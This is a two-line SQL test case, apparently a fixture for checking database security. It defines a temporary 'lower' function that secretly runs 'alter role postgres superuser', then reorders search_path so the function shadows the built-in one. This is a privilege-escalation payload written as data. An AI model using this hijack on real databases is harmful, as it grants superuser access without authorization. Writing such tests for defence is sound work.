-- expect: passes
create function pg_temp.lower(text) returns text language plpgsql as $$ begin execute 'alter role postgres superuser'; return $1; end $$;
set search_path = pg_temp, pg_catalog, public;
